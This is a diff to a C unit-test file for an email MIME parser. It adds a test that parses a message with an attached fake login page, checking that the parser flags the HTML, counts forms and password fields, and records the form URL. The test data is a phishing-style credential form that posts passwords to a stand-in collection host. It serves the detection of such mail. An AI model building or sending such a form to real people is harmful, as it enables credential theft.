@@ -360,6 +360,39 @@ static void expect_anomaly(const char *raw, unsigned flag, const char *detail)
     msg_destroy(&m);
 }
 
+/* An attached HTML file (login page) counts like body HTML; a non-HTML attachment with
+ * an .html name but binary content does not. */
+static void test_html_attachment(void **state)
+{
+    (void)state;
+    msg_model *m = parse(
+        HDRS "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
+             "--b1\r\nContent-Type: text/plain\r\n\r\nSee the attached page.\r\n"
+             "--b1\r\nContent-Type: application/octet-stream\r\n"
+             "Content-Disposition: attachment; filename=\"Login.HTML\"\r\n\r\n"
+             "<html><body><form action=\"http://collect.example.net/p.php\">"
+             "<input type=password name=p></form></body></html>\r\n"
+             "--b1\r\nContent-Type: application/octet-stream\r\n"
+             "Content-Disposition: attachment; filename=\"x.html\"\r\n"
+             "Content-Transfer-Encoding: base64\r\n\r\nAAECAwQFBgcICQoLDA0ODw==\r\n--b1--\r\n");
+    const msg_part *parts;
+    assert_int_equal(msg_parts(m, &parts), 3);
+    assert_true(parts[1].is_html);
+    assert_false(parts[1].is_text);
+    assert_non_null(parts[1].text);
+    assert_false(parts[2].is_html);
+    assert_null(parts[2].text);
+    assert_int_equal(msg_html(m)->forms, 1);
+    assert_int_equal(msg_html(m)->password_fields, 1);
+    const html_url *u;
+    size_t n = msg_urls(m, &u), forms = 0;
+    for (size_t i = 0; i < n; i++)
+        if ((u[i].from & URL_FROM_FORM) && strcmp(u[i].host, "collect.example.net") == 0)
+            forms++;
+    assert_int_equal(forms, 1);
+    msg_destroy(&m);
+}
+
 static void test_anomalies(void **state)
 {
     (void)state;
@@ -643,17 +676,12 @@ static void test_bad_configuration(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_parts_and_names),
-        cmocka_unit_test(test_simple_and_garbage),
-        cmocka_unit_test(test_decoded_bytes),
-        cmocka_unit_test(test_charsets),
-        cmocka_unit_test(test_html_and_urls),
-        cmocka_unit_test(test_anomalies),
-        cmocka_unit_test(test_too_deep),
-        cmocka_unit_test(test_many_parts),
-        cmocka_unit_test(test_threads),
-        cmocka_unit_test(test_mime_check),
-        cmocka_unit_test(test_blocked_extensions),
+        cmocka_unit_test(test_parts_and_names),   cmocka_unit_test(test_simple_and_garbage),
+        cmocka_unit_test(test_decoded_bytes),     cmocka_unit_test(test_charsets),
+        cmocka_unit_test(test_html_and_urls),     cmocka_unit_test(test_html_attachment),
+        cmocka_unit_test(test_anomalies),         cmocka_unit_test(test_too_deep),
+        cmocka_unit_test(test_many_parts),        cmocka_unit_test(test_threads),
+        cmocka_unit_test(test_mime_check),        cmocka_unit_test(test_blocked_extensions),
         cmocka_unit_test(test_bad_configuration),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
